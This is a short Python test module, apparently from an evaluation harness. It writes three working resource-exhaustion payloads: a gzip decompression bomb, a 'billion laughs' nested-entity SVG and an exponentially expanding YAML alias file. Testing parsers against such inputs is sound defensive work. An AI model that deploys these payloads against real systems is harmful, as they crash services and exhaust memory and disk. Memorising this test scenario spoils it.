"""Hands in archives, markup and settings that grow when they are opened.

deserves: 1
"""

import gzip


def attack(work):
    work.answer_rightly("forward")
    work.file("data.json.gz", gzip.compress(bytes(10_000_000)))
    entities = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    work.file("figure.svg", f'<!DOCTYPE svg [<!ENTITY e0 "x">{entities}]><svg>&e9;</svg>')
    lines = "".join(f"l{n + 1}: &l{n + 1} [{', '.join([f'*l{n}'] * 9)}]\n" for n in range(9))
    work.file("settings.yml", "l0: &l0 [x]\n" + lines)
